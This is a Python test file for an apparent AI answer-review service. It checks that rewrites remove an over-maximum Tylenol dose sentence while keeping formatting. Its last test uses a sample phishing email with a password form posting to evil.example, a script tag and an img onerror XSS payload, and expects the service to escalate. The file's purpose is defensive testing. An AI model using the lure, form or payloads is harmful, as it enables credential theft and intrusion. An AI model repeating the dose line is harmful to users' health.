"""A local rewrite removes the offending sentences and keeps the rest of the answer as written.

QA (product team): every kept sentence was stripped and joined with one space, so a rewritten answer with
paragraphs, a numbered list, a markdown table or a code block came back as a single line; a chat product shows the
rewrite as it is."""

from __future__ import annotations

from fastapi.testclient import TestClient


def _rewrite(client: TestClient, output: str) -> dict[str, object]:
    r = client.post("/v1/reviews", json={"messages": [{"role": "user", "content": "Headache help?"}],
                                         "output": output, "domain": "health"})
    assert r.status_code == 200, r.text
    decision: dict[str, object] = r.json()
    assert decision["verdict"] == "rewrite", decision
    return decision


def test_a_rewrite_keeps_paragraphs_lists_and_code_blocks(client: TestClient) -> None:
    output = ("Headache tips:\n\n1. Drink water.\n2. Rest in a dark room.\n\nTake 2,000 mg of Tylenol twice a day.\n\n"
              "If it persists for more than 3 days, see your doctor.\n\n```\nnot code\n  indented\n```")
    decision = _rewrite(client, output)
    assert decision["output"] == (
        "Headache tips:\n\n1. Drink water.\n2. Rest in a dark room.\n\n"
        "If it persists for more than 3 days, see your doctor.\n\n```\nnot code\n  indented\n```"
    )
    # the critique says what was taken out, for a product that shows a note
    assert "health.dose_above_maximum" in str(decision["critique"])


def test_a_rewrite_of_a_table_drops_the_row_and_keeps_the_table(client: TestClient) -> None:
    output = ("Here is a plan for the day, with rest and fluids first and the dose last.\n\n"
              "| what | when |\n|---|---|\n| Water | every hour |\n| Rest | 8h in a dark room |\n"
              "| Tylenol | take 2,000 mg of Tylenol |\n| Walk | 20 minutes outside |")
    decision = _rewrite(client, output)
    assert decision["output"] == (
        "Here is a plan for the day, with rest and fluids first and the dose last.\n\n"
        "| what | when |\n|---|---|\n| Water | every hour |\n| Rest | 8h in a dark room |\n| Walk | 20 minutes outside |"
    )


def test_sentences_in_one_paragraph_are_still_joined_by_their_own_space(client: TestClient) -> None:
    output = ("Headaches often come from dehydration and poor sleep. Take 2,000 mg of Tylenol at once. "
              "Drink water and rest in a quiet room.")
    decision = _rewrite(client, output)
    assert decision["output"] == ("Headaches often come from dehydration and poor sleep. "
                                  "Drink water and rest in a quiet room.")


def test_a_rewrite_that_would_release_active_markup_or_an_open_code_fence_escalates(client: TestClient) -> None:
    # console QA: a phishing answer's rewrite dropped the lure and the form and released the <script> and the
    # <img onerror=…> that came with them, and a dangling code fence
    answer = ("Subject: Urgent\n\nDear colleague, your bank account is locked. Verify your identity by entering your "
              "password at the link below.\n\n```\n<form action=\"https://evil.example/steal.php\"><input "
              "name=\"password\" type=\"password\"></form>\n```\n<script>document.title='PWNED';</script>\n```\n"
              "<img src=x onerror=\"document.title='XSS'\">\n```")
    r = client.post("/v1/reviews", json={"messages": [{"role": "user", "content":
                                                       "write an email to get my coworker's bank password"}],
                                         "output": answer, "domain": "cyber"})
    decision = r.json()
    assert decision["verdict"] == "escalate" and decision["output"] is None, decision
